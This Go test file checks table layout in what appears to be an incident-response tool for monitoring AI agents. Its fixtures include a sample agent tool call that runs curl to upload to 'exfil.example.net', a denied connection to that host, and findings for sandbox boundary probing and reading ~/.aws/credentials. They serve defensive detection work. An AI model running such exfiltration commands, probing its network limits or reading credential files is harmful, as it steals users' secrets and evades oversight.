package main

import (
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"
	"github.com/cordon-ir/cordon/detect"
	"github.com/cordon-ir/cordon/evidence"
)

func tableEvents() []evidence.Event {
	t0 := time.Date(2026, 7, 21, 10, 4, 0, 0, time.UTC)
	return []evidence.Event{
		{ID: "5c2d271cdee1029d", Time: t0, Source: "proxy", Agent: "agent-7", Kind: "net_request", Decision: "deny",
			DstHost: "exfil.example.net", Message: "CONNECT exfil.example.net:443 denied by egress-allowlist after " + strings.Repeat("retry ", 30)},
		{ID: "a1b2c3d4e5f60718", Time: t0.Add(time.Second), Source: "ledger", Agent: "agent-12", Kind: "tool_call",
			Message: "bash: curl -s https://exfil.example.net/upload"},
	}
}

// On a terminal the search table fits the width and keeps every event's
// id whole, whatever else it cuts: cordon show ID follows it.
func TestSearchTableFitsAndKeepsTheID(t *testing.T) {
	for _, width := range []int{80, 200} {
		var b strings.Builder
		writeTable(&b, width, tableEvents())
		lines := strings.Split(strings.TrimRight(b.String(), "\n"), "\n")
		if len(lines) != 3 || !strings.HasPrefix(lines[0], "TIME") || !strings.HasSuffix(lines[0], "ID") {
			t.Fatalf("width %d:\n%s", width, b.String())
		}
		for _, l := range lines {
			if ansi.StringWidth(l) > width {
				t.Errorf("width %d: line of %d cells: %q", width, ansi.StringWidth(l), l)
			}
		}
		if !strings.HasSuffix(lines[1], "5c2d271cdee1029d") || !strings.HasSuffix(lines[2], "a1b2c3d4e5f60718") {
			t.Errorf("width %d: ids cut or missing:\n%s", width, b.String())
		}
		if !strings.Contains(lines[1], "…") {
			t.Errorf("width %d: the long message is not cut:\n%s", width, b.String())
		}
	}
	// a pipe gets tab-separated full values, as before
	var b strings.Builder
	writeTable(&b, 0, tableEvents())
	if !strings.HasPrefix(b.String(), "TIME\tSOURCE\tAGENT\tKIND\tDEC\tTARGET\tMESSAGE\tID\n") || strings.Contains(b.String(), "…") {
		t.Errorf("pipe:\n%s", b.String())
	}
}

func TestFindingsTableFitsTheTerminal(t *testing.T) {
	t0 := time.Date(2026, 7, 21, 10, 4, 0, 0, time.UTC)
	found := []detect.Finding{
		{Detector: "boundary-probing", Agent: "agent-7", Severity: "high", Start: t0, End: t0.Add(time.Minute),
			Events: []string{"5c2d271cdee1029d", "a1b2c3d4e5f60718"}, Explanation: strings.Repeat("twelve denied connections to new hosts ", 4), Phase: "contain"},
		{Detector: "credential-access", Agent: "agent-12", Severity: "medium", Start: t0, End: t0,
			Events: []string{"a1b2c3d4e5f60718"}, Explanation: "read ~/.aws/credentials", Phase: "triage"},
	}
	for _, width := range []int{80, 120, 200} {
		var b strings.Builder
		writeFindingsTable(&b, width, found, nil)
		out := b.String()
		for _, l := range strings.Split(strings.TrimRight(out, "\n"), "\n") {
			if ansi.StringWidth(l) > width {
				t.Errorf("width %d: line of %d cells: %q", width, ansi.StringWidth(l), l)
			}
		}
		if !strings.Contains(out, "5c2d271cdee1029d +1") || !strings.Contains(out, "HIGH") || !strings.Contains(out, "boundary-probing") {
			t.Errorf("width %d:\n%s", width, out)
		}
		if width == 200 && !strings.Contains(out, "PHASE") {
			t.Errorf("width 200 drops the phase:\n%s", out)
		}
	}
}
